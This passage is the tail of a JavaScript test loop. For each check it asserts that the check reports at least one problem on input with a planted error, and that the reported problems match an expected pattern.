    const problems = results[check].join('\n');
    assert.ok(results[check].length > 0, `${check} passed with the planted error`);
    assert.match(problems, expected);
  });
}
